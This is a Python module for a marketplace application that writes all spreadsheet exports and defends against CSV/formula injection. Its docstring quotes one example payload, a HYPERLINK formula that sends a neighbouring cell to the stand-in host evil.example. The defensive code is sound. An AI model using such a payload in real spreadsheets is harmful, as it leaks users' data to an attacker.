"""The one module that writes spreadsheets: every export, report and simulation goes through it.

Why one module: a cell whose text starts with '=' (or '+', '-', '@', TAB, CR) is a formula to Excel
and LibreOffice. A team named '=HYPERLINK("http://evil.example/?leak="&F3,"查看详情")' would turn the
officers' bid summary into a live link that leaks the neighbouring cell (CSV/formula injection,
OWASP). Here every string is written as a string cell (data_type 's', never 'f') and a value that
starts with one of those characters is neutralised the OWASP way, with a leading apostrophe.
Numbers stay numbers: money as exact Decimal 元 with a 元 format, times in Beijing time.
"""

from __future__ import annotations

import io
import re
from collections.abc import Iterable
from dataclasses import dataclass
from datetime import datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.styles import Alignment, Font, PatternFill
from openpyxl.utils import get_column_letter

from marketplace.clock import to_shanghai
from marketplace.money import yuan_decimal

MEDIA_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
YUAN_FORMAT = '#,##0.00 "元"'
DECIMAL_FORMAT = "#,##0.00"
TIME_FORMAT = "yyyy-mm-dd hh:mm"
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
# Characters XML 1.0 (and so xlsx) cannot carry at all.
_ILLEGAL_XML = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


@dataclass(frozen=True)
class Column:
    """A column: its header, width, and the kind of its cells.

    kinds: text · int · yuan (int fen → Decimal 元, 元 format) · decimal (Decimal or decimal text,
    0.00 format) · time (aware datetime → Beijing time) · wrap (text, wrapped)
    """

    title: str
    width: int = 14
    kind: str = "text"


def clean_text(value: Any) -> str:
    """Text without the control characters XML cannot hold."""
    return _ILLEGAL_XML.sub("", "" if value is None else str(value))


def safe_text(value: Any) -> str:
    """Text that no spreadsheet will read as a formula (OWASP: prefix a leading trigger with ')."""
    text = clean_text(value)
    return "'" + text if text.startswith(FORMULA_TRIGGERS) else text


def cell(ws: Any, value: Any, kind: str = "auto") -> WriteOnlyCell:
    """One typed cell; strings are always string cells, whatever they look like."""
    if value is None:
        return WriteOnlyCell(ws, value=None)
    if kind == "auto":
        kind = _kind_of(value)
    if kind == "yuan":
        out = WriteOnlyCell(ws, value=yuan_decimal(value))
        out.number_format = YUAN_FORMAT
    elif kind == "decimal":
        out = WriteOnlyCell(ws, value=value if isinstance(value, Decimal) else Decimal(str(value)))
        out.number_format = DECIMAL_FORMAT
    elif kind == "time":
        out = WriteOnlyCell(ws, value=to_shanghai(value).replace(tzinfo=None))
        out.number_format = TIME_FORMAT
    elif kind == "int":
        out = WriteOnlyCell(ws, value=int(value))
    else:
        out = WriteOnlyCell(ws, value=safe_text(value))
        out.data_type = "s"  # never 'f', even if a future change let '=' through
        if kind == "wrap":
            out.alignment = Alignment(wrap_text=True, vertical="top")
    return out


def _kind_of(value: Any) -> str:
    if isinstance(value, bool):
        return "text"
    if isinstance(value, int):
        return "int"
    if isinstance(value, Decimal):
        return "decimal"
    if isinstance(value, datetime):
        return "time"
    return "text"


def header(ws: Any, columns: Iterable[Column]) -> list[WriteOnlyCell]:
    cells = []
    for column in columns:
        out = cell(ws, column.title)
        out.font = Font(bold=True)
        out.fill = PatternFill("solid", fgColor="E8EEF7")
        out.alignment = Alignment(vertical="center", wrap_text=True)
        cells.append(out)
    return cells


class Book:
    """A write-only workbook: add sheets and rows, then `bytes()` or `save(path)`."""

    def __init__(self) -> None:
        self._book = Workbook(write_only=True)

    def sheet(self, title: str, columns: list[Column], *, preamble: Iterable[Any] = (),
              rows: Iterable[Iterable[Any]] = (), freeze: bool = True) -> Any:
        """A sheet: optional preamble lines (one text cell each), the header, then typed rows."""
        ws = self._book.create_sheet(title)
        for index, column in enumerate(columns, start=1):
            ws.column_dimensions[get_column_letter(index)].width = column.width
        preamble = list(preamble)
        if freeze:
            ws.freeze_panes = f"A{len(preamble) + 2}"
        for line in preamble:
            ws.append([cell(ws, line)])
        ws.append(header(ws, columns))
        for row in rows:
            ws.append([cell(ws, value, column.kind) for value, column in zip(row, columns, strict=True)])
        return ws

    def bytes(self) -> bytes:
        buffer = io.BytesIO()
        self._book.save(buffer)
        return buffer.getvalue()

    def save(self, path: Path) -> Path:
        self._book.save(path)
        return path
